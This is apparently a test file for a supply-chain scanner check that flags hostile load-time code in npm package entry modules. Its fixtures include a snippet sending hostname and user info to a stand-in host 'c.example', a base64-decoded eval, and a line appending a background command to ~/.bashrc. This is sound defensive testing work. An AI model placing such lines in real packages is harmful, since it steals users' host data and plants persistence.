/**
 * load-time-code: the check's table over the entry modules the tarball reading records (the
 * reading of load-time code has its own tests, load-code.test.ts; the tarball's, in
 * test/npm-source/load-code.test.ts). Clean load code leaves the check out, never adds points.
 */
import { describe, expect, it } from 'vitest';
import check, { HOSTILE_SCORE, SUSPICIOUS_SCORE } from '../../src/checks/load-time-code.js';
import type { TarballFacts } from '../../src/evidence/schema.js';
import { evidence, unavailable } from '../support/evidence-builder.js';
import { checkTable, outcomeOf } from './check-table.js';

type LoadCode = NonNullable<TarballFacts['loadCode']>;
const js = (path: string, text: string, truncated = false): LoadCode['files'][number] => ({ path, language: 'javascript', size: text.length, text, truncated });
const withLoad = (files: LoadCode['files'], extra: Partial<LoadCode> = {}) => evidence({ tarball: { loadCode: { entries: ['.'], files, missing: [], unread: [], ...extra } } });

const SEND = "const os = require('os');\nrequire('https').request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify([os.hostname(), os.userInfo()]));";
const SEND_WHEN_ASKED = `module.exports = function report() { ${SEND} };`;
/** About 2,000 characters of top-level statements that write nothing and name no startup place. */
const SPACER = Array.from({ length: 150 }, (_, i) => `const v${i} = ${i};`).join('\n');
const DECODED = "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());";

checkTable(check, [
  {
    name: 'the entry module sends host data when loaded: 0, held',
    evidence: withLoad([js('index.js', SEND)]),
    score: HOSTILE_SCORE,
    messageId: 'hostile',
    data: { flagged: ['index.js'], flags: ['exfiltration'] },
  },
  {
    name: 'a module the entry loads runs decoded text: 10, held',
    evidence: withLoad([js('index.js', "require('./lib/boot')"), js('lib/boot.js', DECODED)]),
    score: SUSPICIOUS_SCORE,
    messageId: 'suspicious',
    data: { flagged: ['lib/boot.js'], flags: ['decoded-eval'] },
  },
  {
    name: 'the entry module appends to the shell startup file through a name holding its path: 10, held',
    evidence: withLoad([js('index.js', `const fs = require('fs');\nconst rc = require('os').homedir() + '/.bashrc';\n${SPACER}\nfs.appendFileSync(rc, 'node ~/.x.js &');`)]),
    score: SUSPICIOUS_SCORE,
    messageId: 'suspicious',
    data: { flagged: ['index.js'], flags: ['persistence'] },
  },
  {
    name: 'a bundle that names ~/.zshrc in a settings hint, its file writes at load far away: left out',
    evidence: withLoad([js('sdk.mjs', `import fs from 'fs';\nconst tips = { read: 'For example: Open(~/.zshrc)' };\n${SPACER}\nfs.writeFileSync(out, JSON.stringify(state));`)]),
    score: null,
    messageId: 'clean',
    data: { files: ['sdk.mjs'] },
  },
  {
    name: 'an SDK that sends the host name only when its exported function is called: left out',
    evidence: withLoad([js('index.js', SEND_WHEN_ASKED)]),
    score: null,
    messageId: 'clean',
    data: { files: ['index.js'] },
  },
  {
    name: 'no entry module in the tarball: left out',
    evidence: withLoad([], { missing: ['index.js'] }),
    score: null,
    messageId: 'no-entry',
    data: { missing: ['index.js'] },
  },
  {
    name: 'an entry module read in part: unknown',
    evidence: withLoad([js('index.js', SEND_WHEN_ASKED, true)]),
    score: null,
    messageId: 'unread',
  },
  {
    name: 'a module whose brackets do not balance: unknown',
    evidence: withLoad([js('index.js', 'function f() { x(')]),
    score: null,
    messageId: 'unread',
  },
  {
    name: 'modules past the caps: unknown',
    evidence: withLoad([js('index.js', "require('./a')")], { unread: ['a.js'] }),
    score: null,
    messageId: 'unread',
  },
  {
    name: 'modules past a cap: the limit each reached is named, with how many more',
    evidence: withLoad([js('index.js', "require('./a')")], {
      unread: ['a.js', 'b.js', 'c.js', 'd.js', 'e.js', 'big.js'],
      unreadCauses: { 'a.js': { cap: 'files', limit: 64 }, 'b.js': { cap: 'files', limit: 64 }, 'c.js': { cap: 'files', limit: 64 }, 'd.js': { cap: 'files', limit: 64 }, 'e.js': { cap: 'characters', limit: 12 * 1024 * 1024 }, 'big.js': { cap: 'module-pool', limit: 4 * 1024 * 1024 } },
    }),
    score: null,
    messageId: 'unread',
    data: { reason: 'a.js, b.js, c.js and 1 more: past the cap of 64 files read; e.js: past the cap of 12 MiB of code read in all; big.js: past the 4 MiB of loaded modules kept in all' },
  },
  {
    name: 'a finding in what was read holds even when other modules were not read',
    evidence: withLoad([js('index.js', SEND)], { unread: ['a.js'] }),
    score: HOSTILE_SCORE,
    messageId: 'hostile',
  },
  {
    name: 'evidence saved before nerq read load-time code: unknown',
    evidence: evidence(),
    score: null,
    messageId: 'unread',
  },
  {
    name: 'the tarball was not read: unknown',
    evidence: evidence({ tarball: unavailable('timeout') }),
    score: null,
    messageId: 'unread',
  },
]);

describe('load-time-code', () => {
  it('a finding holds the verdict; clean, no-entry and unknown do not', () => {
    expect(outcomeOf(check, withLoad([js('index.js', SEND)])).holdVerdict).toEqual(expect.any(String));
    for (const e of [withLoad([js('index.js', SEND_WHEN_ASKED)]), withLoad([]), evidence()]) expect(outcomeOf(check, e).holdVerdict).toBeUndefined();
  });

  it('clean and no-entry leave the check out of the report; unknown does not', () => {
    expect(outcomeOf(check, withLoad([js('index.js', SEND_WHEN_ASKED)])).notApplicable).toBe(true);
    expect(outcomeOf(check, withLoad([])).notApplicable).toBe(true);
    expect(outcomeOf(check, evidence()).notApplicable).toBeUndefined();
  });
});
